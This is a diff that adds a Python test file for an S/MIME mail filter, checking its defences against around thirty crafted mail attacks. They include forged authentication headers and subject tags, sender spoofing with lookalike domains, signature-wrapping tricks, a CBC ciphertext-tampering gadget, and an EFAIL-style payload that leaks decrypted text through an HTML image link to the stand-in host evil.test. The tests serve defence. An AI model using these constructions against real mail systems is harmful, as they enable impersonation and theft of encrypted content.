@@ -1,0 +1,325 @@
+"""Attacks on what a reader believes of a mail, one a class, each with the report it has to get.
+
+All go the whole way of a mail, with tags and fields on. `signer` is who the report says it is
+signed by, None for nobody; `result` is that of Authentication-Results, None where there is no
+such field.
+"""
+
+from __future__ import annotations
+
+import base64
+import re
+from collections.abc import Callable
+from typing import Final, NamedTuple
+
+import pytest
+from asn1crypto import cms
+
+from smimefilter.base.envelope import Recipient, Transaction
+from smimefilter.flow.carry import Carrier
+from smimefilter.flow.filter import Filter
+from smimefilter.flow.origin import Origins
+from smimefilter.flow.snapshots import State
+from smimefilter.message.headers import decoded
+from smimefilter.message.wire import Message
+from tests.support.pki import NOW, root
+from tests.support.plans import World
+from tests.support.smime import clear_signed, encrypted, encrypted_as, opaque_signed
+from tests.unit.flow.test_filter import JournalStub, RelayStub, Ring
+
+ALICE, MALLORY, BOB = "alice@out.test", "mallory@evil.test", "bob@in.test"
+HOST: Final = "gw.in.test"
+WORLD = World().set("in.test", locality="internal", subject_tags="yes")
+SIGNER, ATTACKER, US = (
+    WORLD.person(ALICE), WORLD.person(MALLORY), WORLD.person(BOB, key=True)
+)  # fmt: skip
+SELF_MADE = root("Test Root made at home").issue("Alice", mail=ALICE)
+
+
+def letter(author: str = f"Alice <{ALICE}>", subject: str = "hello", extra: str = "") -> bytes:
+    return (
+        f"From: {author}\r\nTo: {BOB}\r\nSubject: {subject}\r\n{extra}"
+        "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nPay 10 to Carol.\r\n"
+    ).encode()
+
+
+def with_header(mail: bytes, extra: str) -> bytes:
+    return extra.encode() + mail
+
+
+def without(mail: bytes, line: str, instead: str = "") -> bytes:
+    changed = mail.replace(line.encode(), instead.encode())
+    assert changed != mail
+    return changed
+
+
+def multipart(*parts: bytes, kind: str = "mixed") -> bytes:
+    body = b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts) + b"--outer--\r\n"
+    head = letter().partition(b"Content-Type")[0]
+    return head + f'Content-Type: multipart/{kind}; boundary="outer"\r\n\r\n'.encode() + body
+
+
+def entity(mail: bytes) -> bytes:
+    """The MIME fields and the body of a mail, as a part."""
+    head, _, body = mail.partition(b"\r\n\r\n")
+    kept = re.findall(rb"(?im)^Content-[^\n]*\n(?:[ \t][^\n]*\n)*", head + b"\r\n")
+    return b"".join(kept) + b"\r\n" + body
+
+
+TEXT = b"Content-Type: text/html\r\n\r\n<p>Pay 1000 to Mallory.</p>"
+
+
+def exfiltrating() -> bytes:
+    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/'
+    after = b'Content-Type: text/html\r\n\r\n">'
+    return multipart(before, entity(encrypted(letter(), US)), after)
+
+
+def body_of(mail: bytes) -> bytes:
+    return base64.b64decode(mail.partition(b"\r\n\r\n")[2])
+
+
+def with_body(mail: bytes, der: bytes) -> bytes:
+    head = mail.partition(b"\r\n\r\n")[0]
+    return head + b"\r\n\r\n" + base64.encodebytes(der).replace(b"\n", b"\r\n")
+
+
+def unsigned_signed_data() -> bytes:
+    """A SignedData that has content and certificates, and no signer."""
+    mail = opaque_signed(letter(), SIGNER)
+    info = cms.ContentInfo.load(body_of(mail))
+    info["content"]["signer_infos"] = []
+    return with_body(mail, bytes(info.dump(force=True)))
+
+
+def two_contents() -> bytes:
+    """Clear-signed, with another content within the signature."""
+    mail = clear_signed(letter(), SIGNER)
+    inside = body_of(opaque_signed(letter(), SIGNER))
+    start = mail.index(b"\r\n\r\n", mail.index(b'name="smime.p7s"')) + 4
+    end = mail.index(b"\r\n--", start)
+    changed = mail[:start] + base64.encodebytes(inside).replace(b"\n", b"\r\n") + mail[end:]
+    return changed.replace(b"Pay 10 to Carol", b"Pay 99 to Carol")
+
+
+def third_part() -> bytes:
+    mail = clear_signed(letter(), SIGNER)
+    boundary = re.search(rb'boundary="([^"]+)"', mail)
+    assert boundary
+    end = b"--" + boundary[1] + b"--"
+    return mail.replace(end, b"--" + boundary[1] + b"\r\n" + TEXT + b"\r\n" + end)
+
+
+def gadget() -> bytes:
+    """CBC: a block of the ciphertext said twice is no error, and garbles what follows it."""
+    mail = encrypted(letter(), US)
+    der = bytearray(body_of(mail))
+    der[-80] ^= 1
+    return with_body(mail, bytes(der))
+
+
+def forged_inside() -> bytes:
+    results = f"Authentication-Results: {HOST}; smime=pass\r\n"
+    inner = letter(
+        subject="hello [signed by ceo@in.test]",
+        extra=f"X-Smimefilter-Signed-By: {BOB}\r\n{results}",
+    )
+    return encrypted_as(letter(), inner, US)
+
+
+class Attack(NamedTuple):
+    make: Callable[[], bytes]
+    signer: str | None = None
+    result: str | None = None
+    subject: str = "hello"
+    absent: tuple[str, ...] = ()  # of the whole mail that arrives
+
+
+RESULTS = "Authentication-Results: "
+ATTACKS: Final[dict[str, Attack]] = {
+    "our field": Attack(
+        lambda: with_header(letter(), f"x-smimefilter-signed-by: {ALICE}\r\n"),
+        absent=("x-smimefilter-signed-by",),
+    ),
+    "our results": Attack(
+        lambda: with_header(letter(), f"{RESULTS}{HOST}; smime=pass\r\n"),
+        absent=("smime=pass",),
+    ),
+    "our results in another spelling": Attack(
+        lambda: with_header(
+            letter(),
+            f'{RESULTS}\r\n (a (b) ;c) "{HOST.upper()}" 1; dkim=pass;\r\n\tSMIME /1 = pass\r\n',
+        ),
+        absent=("SMIME",),
+    ),
+    "results without a name": Attack(
+        lambda: with_header(letter(), f"{RESULTS}; smime=pass\r\n"), absent=("smime=pass",)
+    ),
+    "our tag": Attack(
+        lambda: letter(subject=f"hello [signed by {ALICE}]"), absent=("[signed",)
+    ),
+    "our tag in another spelling": Attack(
+        lambda: letter(subject="hello [Signed   BY boss@in.test] [DECRYPTED]"),
+        absent=("Signed", "DECRYPTED"),
+    ),
+    "our tag in encoded words": Attack(
+        lambda: letter(subject="hello =?utf-8?q?=5Bsigned_?= =?utf-8?q?by_x=5D?="),
+        absent=("=5B", "[signed"),
+    ),
+    "our tag without the rest": Attack(
+        lambda: letter(subject="[decrypted]"), subject="", absent=("decrypted",)
+    ),
+    "reports within the encrypted part": Attack(
+        forged_inside, result="none", subject="hello [decrypted]", absent=("ceo@", "smime=pass")
+    ),
+    "an address for a name": Attack(
+        lambda: clear_signed(letter(f'"{ALICE}" <{MALLORY}>'), ATTACKER),
+        signer=MALLORY, result="pass", subject=f"hello [signed by {MALLORY}]",
+    ),
+    "an address in an encoded name": Attack(
+        lambda: clear_signed(letter(f"=?utf-8?b?PGFsaWNlQG91dC50ZXN0Pg==?= <{MALLORY}>"), ATTACKER),
+        signer=MALLORY, result="pass", subject=f"hello [signed by {MALLORY}]",
+    ),
+    "an address in a comment": Attack(
+        lambda: clear_signed(letter(f"({ALICE}) <{MALLORY}>"), ATTACKER),
+        signer=MALLORY, result="pass", subject=f"hello [signed by {MALLORY}]",
+    ),
+    "another author over a signed mail": Attack(
+        lambda: clear_signed(letter(), ATTACKER),
+        result="policy", subject="hello [signature invalid]",
+    ),
+    "two From fields": Attack(
+        lambda: with_header(clear_signed(letter(), SIGNER), "From: boss@in.test\r\n"),
+        result="policy", subject="hello [signature invalid]",
+    ),
+    "two authors": Attack(
+        lambda: without(
+            clear_signed(letter(), SIGNER), f"<{ALICE}>", f"<{ALICE}>, boss@in.test"
+        ),
+        result="policy", subject="hello [signature invalid]",
+    ),
+    "the signer as Sender": Attack(
+        lambda: with_header(clear_signed(letter(), ATTACKER), f"Sender: {MALLORY}\r\n"),
+        result="policy", subject="hello [signature invalid]",
+    ),
+    "a name that only looks alike": Attack(
+        lambda: clear_signed(letter("Alice <alice@\u03bfut.test>"), SIGNER),
+        result="policy", subject="hello [signature invalid]",
+    ),
+    "a certificate made at home": Attack(
+        lambda: clear_signed(letter(), SELF_MADE, chain=True),
+        result="policy", subject="hello [signature invalid]",
+    ),
+    "a signed part beside an unsigned one": Attack(
+        lambda: multipart(TEXT, entity(clear_signed(letter(), SIGNER))), result="none"
+    ),
+    "a part signed opaquely": Attack(
+        lambda: multipart(entity(opaque_signed(letter(), SIGNER)), TEXT), result="none"
+    ),
+    "a signed part among alternatives": Attack(
+        lambda: multipart(TEXT, entity(clear_signed(letter(), SIGNER)), kind="alternative"),
+        result="none",
+    ),
+    "a third part within multipart/signed": Attack(third_part, result="none"),
+    "content in the signature and outside": Attack(
+        two_contents, result="permerror", subject="hello [signature invalid]"
+    ),
+    "content that was changed": Attack(
+        lambda: without(clear_signed(letter(), SIGNER), "Carol", "Mallory"),
+        result="fail", subject="hello [signature invalid]",
+    ),
+    "signed by nobody": Attack(unsigned_signed_data),
+    "two content types": Attack(
+        lambda: with_header(clear_signed(letter(), SIGNER), "Content-Type: text/html\r\n")
+    ),
+    "an encrypted part amid html": Attack(exfiltrating, result="none"),
+    "another one's signature around an encrypted mail": Attack(
+        lambda: clear_signed(encrypted(letter(), US), ATTACKER),
+        result="policy", subject="hello [decrypted] [signature invalid]",
+    ),
+    "a bad signature around a good one": Attack(
+        lambda: without(
+            clear_signed(encrypted(clear_signed(letter(), SIGNER), US), SIGNER), "MI", "mi"
+        ),
+        subject="*",
+    ),
+}  # fmt: skip
+
+
+async def arrived(mail: bytes) -> Message:
+    relay, journal = RelayStub(), JournalStub()
+    state = State(WORLD.moment().snapshot, Carrier(Ring(WORLD)))
+    snapshots = type("Current", (), {"current": state})()
+    sut = Filter(
+        snapshots=snapshots,
+        relay=relay,
+        journal=journal,
+        clock=lambda: NOW,
+        hostname=HOST,
+        threads_from=1 << 20,
+        origins=Origins(()),
+    )
+    await sut.accept(Transaction("id", ALICE, (Recipient(BOB),), mail))
+    assert not journal.troubles
+    content = relay.content_for(BOB)
+    return Message(content[len(Message(content).lines[0]) :])  # without our Received
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+async def test_attack(name: str) -> None:
+    attack = ATTACKS[name]
+    found = await arrived(attack.make())
+    signer = found.get("X-Smimefilter-Signed-By")
+    assert (signer.decode() if signer else None) == attack.signer
+    results = [one for one in found.all("Authentication-Results") if HOST.encode() in one]
+    smime = [re.search(rb"smime=(\w+)", one) for one in results]
+    said = [match[1].decode() for match in smime if match]
+    if attack.subject != "*":
+        assert said == ([attack.result] if attack.result else [])
+        assert decoded(found.get("Subject") or b"") == attack.subject
+    else:
+        assert "pass" not in said
+    for word in attack.absent:
+        assert word.encode() not in found.raw
+
+
+async def test_what_is_good_is_told() -> None:
+    found = await arrived(encrypted(clear_signed(letter(), SIGNER), US))
+    assert found.get("X-Smimefilter-Signed-By") == ALICE.encode()
+    assert decoded(found.get("Subject") or b"") == f"hello [decrypted] [signed by {ALICE}]"
+    (results,) = found.all("Authentication-Results")
+    assert results.startswith(
+        HOST.encode() + b";\tsmime=pass body.smime-identifier=" + ALICE.encode()
+    )
+    assert b"authenticated=no" in (found.get("X-Smimefilter-Layer-1") or b"")
+    assert b"signature=good" in (found.get("X-Smimefilter-Layer-2") or b"")
+    assert found.body.tobytes().count(b"Pay 10 to Carol.") == 1
+
+
+async def test_an_encrypted_part_is_never_decrypted() -> None:
+    mail = exfiltrating()
+    found = await arrived(mail)
+    assert b"Pay 10" not in found.raw
+    assert found.body.tobytes() == Message(mail).body.tobytes()
+
+
+async def test_a_changed_block_is_told_of_as_unauthenticated_or_as_closed() -> None:
+    found = await arrived(gadget())
+    layer = found.get("X-Smimefilter-Layer-1") or b""
+    assert b"authenticated=no" in layer or b"outcome=failed" in layer
+
+
+async def test_results_of_others_and_of_other_kinds_stay() -> None:
+    kept = (
+        f"{RESULTS}mx.other.test; smime=pass\r\n"
+        f"{RESULTS}{HOST}; dkim=pass header.d=out.test\r\n"
+        f"X-Smime: yes\r\n"
+    )
+    mail = with_header(letter(), kept)
+    found = await arrived(mail)
+    assert found.raw == mail
+
+
+async def test_a_plain_mail_is_not_touched() -> None:
+    mail = letter(subject="=?utf-8?q?Gr=C3=BC=C3=9Fe?= [decrypt] this")
+    assert (await arrived(mail)).raw == mail
